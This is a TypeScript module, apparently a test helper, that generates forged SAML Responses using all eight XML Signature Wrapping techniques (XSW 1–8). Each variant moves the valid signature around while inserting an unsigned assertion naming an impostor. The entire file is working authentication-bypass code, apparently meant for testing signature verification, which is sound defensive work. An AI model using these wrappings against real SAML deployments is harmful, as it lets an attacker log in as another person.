/** The parts of a Response with one assertion. */
interface Parts {
  readonly response: string;
  /** Without its signature. */
  readonly assertion: string;
  readonly signature: string;
  /** The assertion of the attacker: another ID and person, without a signature. */
  readonly evil: string;
}

const signature = /<(?:\w+:)?Signature .*?<\/(?:\w+:)?Signature>/s;
const assertion = /<saml:Assertion .*<\/saml:Assertion>/s;

function partsOf(response: string, person: string, impostor: string): Parts {
  const signed = assertion.exec(response)![0];
  const bare = signed.replace(signature, '');
  const evil = bare.replaceAll(person, impostor).replace(/ID="[^"]*"/, 'ID="_evil"');
  return { response, assertion: bare, signature: signature.exec(response)![0], evil };
}

const within = (outer: string, inner: string) => outer.replace('</saml:Assertion>', `${inner}</saml:Assertion>`);
const inSignature = (outer: string, inner: string) => outer.replace(/<\/(\w+:)?Signature>$/, (end) => `${inner}${end}`);
const afterIssuer = (outer: string, inner: string) => outer.replace('</saml:Issuer>', `</saml:Issuer>${inner}`);

function evilResponse(response: string, evil: string): string {
  return response
    .replace(signature, '')
    .replace(assertion, evil)
    .replace(/ID="[^"]*"/, 'ID="_evil-response"');
}

/**
 * The eight ways of wrapping a signature (XSW 1 to 8): the signature stays right, and a reader that looks elsewhere finds another person.
 * The first two need a signed Response, the others a signed assertion.
 */
export function wrapped(way: number, response: string, person: string, impostor: string): string {
  const { assertion: bare, signature: sig, evil } = partsOf(response, person, impostor);
  const signed = assertion.exec(response)![0];
  const unsignedResponse = response.replace(signature, '');
  switch (way) {
    case 1:
      return afterResponseIssuer(evilResponse(response, evil), inSignature(sig, unsignedResponse));
    case 2:
      return afterResponseIssuer(evilResponse(response, evil), `${unsignedResponse}${sig}`);
    case 3:
      return response.replace(signed, `${evil}${signed}`);
    case 4:
      return response.replace(signed, within(evil, signed));
    case 5:
      return response.replace(signed, `${afterIssuer(evil, sig)}${bare}`);
    case 6:
      return response.replace(signed, afterIssuer(evil, inSignature(sig, bare)));
    case 7:
      return response.replace(signed, `<samlp:Extensions>${evil}</samlp:Extensions>${signed}`);
    case 8:
      return response.replace(signed, afterIssuer(evil, inSignature(sig, `<Object>${bare}</Object>`)));
    default:
      throw new Error(`there is no way ${way}`);
  }
}

function afterResponseIssuer(response: string, inner: string): string {
  return response.replace('</saml:Issuer>', `</saml:Issuer>${inner}`);
}
